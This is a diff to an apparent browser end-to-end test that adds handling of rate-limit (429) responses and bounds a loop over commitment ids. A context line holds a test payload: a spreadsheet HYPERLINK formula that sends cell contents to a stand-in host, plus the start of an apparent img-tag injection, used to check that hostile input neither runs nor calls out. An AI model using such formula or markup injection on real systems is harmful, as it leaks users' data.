@@ -24,7 +24,7 @@ async function visitor(viewport = kWide) {
   const page = await context.newPage()
   const wrong = []
   page.on('pageerror', (error) => wrong.push(error.message))
-  page.on('console', (message) => { if (message.type() === 'error' && !/status of (400|401|403|404|409)/.test(message.text())) wrong.push(message.text()) })
+  page.on('console', (message) => { if (message.type() === 'error' && !/status of (400|401|403|404|409|429)/.test(message.text())) wrong.push(message.text()) })
   page.on('request', (request) => { if (!/^(blob|data):/.test(request.url()) && !request.url().startsWith(base)) wrong.push(`asked ${request.url()}`) })
   page.on('dialog', (dialog) => { wrong.push(`a script ran: ${dialog.message()}`); void dialog.dismiss() })
   page.setDefaultTimeout(20_000)
@@ -209,12 +209,17 @@ const nasty = (words) => `=HYPERLINK("http://example.invalid/?"&A1,"x") <img src
 /** The first commitment with assets to pick on which the person may report. */
 async function reportable(page) {
   return page.evaluate(async () => {
-    for (let id = 1; ; id += 1) {
-      const answer = await fetch(`/api/v1/commitments/${id}`)
-      if (!answer.ok) return null
+    for (let id = 1; id <= 200; id += 1) { // what is not theirs to read is not there for them
+      let answer = await fetch(`/api/v1/commitments/${id}`)
+      while (answer.status === 429) { // asked too often for a person
+        await new Promise((resolve) => setTimeout(resolve, 1000 * Number(answer.headers.get('Retry-After') ?? 1)))
+        answer = await fetch(`/api/v1/commitments/${id}`)
+      }
+      if (!answer.ok) continue
       const full = await answer.json()
       if (full.steps.includes('report') && full.funnel.length > 0) return full
     }
+    return null
   })
 }
 
